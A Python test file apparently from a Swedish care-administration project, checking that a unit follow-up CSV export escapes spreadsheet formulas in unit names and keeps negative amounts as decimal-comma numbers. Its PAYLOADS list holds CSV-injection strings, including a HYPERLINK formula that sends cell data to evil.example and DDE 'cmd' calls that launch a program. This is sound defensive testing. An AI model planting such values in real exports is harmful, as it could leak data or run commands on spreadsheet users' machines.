"""The follow-up per unit as CSV (/enheter/uppfoljning.csv and its API): a unit's name that
a spreadsheet would read as a formula is written as text (samfard.spreadsheet), and the
amounts stay numbers with a decimal comma, negative ones too."""

from __future__ import annotations

import csv
import re
from datetime import date
from io import StringIO

from samfard.care.follow_up import CSV_COLUMNS, UnitMonth, to_csv

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
NUMBER = re.compile(r"-?[0-9]+(,[0-9]+)?")


def test_unit_names_are_text_and_negative_amounts_numbers() -> None:
    units = (*PAYLOADS, "Akuten\r=1+1")
    rows = [
        UnitMonth(unit, "22", date(2026, 10, 1), certificates=2, expected_ore=-150,
                  settled_ore=-1234567)
        for unit in units
    ]  # fmt: skip
    read = list(csv.reader(StringIO(to_csv(rows)), delimiter=";"))
    assert read[0] == list(CSV_COLUMNS)
    assert len(read) == 1 + len(units), "a row split in two"
    assert [r[0] for r in read[1:]] == [
        *("'" + p.replace("\r", "\n") for p in PAYLOADS),
        "Akuten\n=1+1",
    ]
    for row in read[1:]:
        assert len(row) == len(CSV_COLUMNS)
        for value in row:
            if not NUMBER.fullmatch(value):
                assert not value.startswith(FORMULA_START), repr(value)
        assert row[-3:-1] == ["-1,50", "-12345,67"]
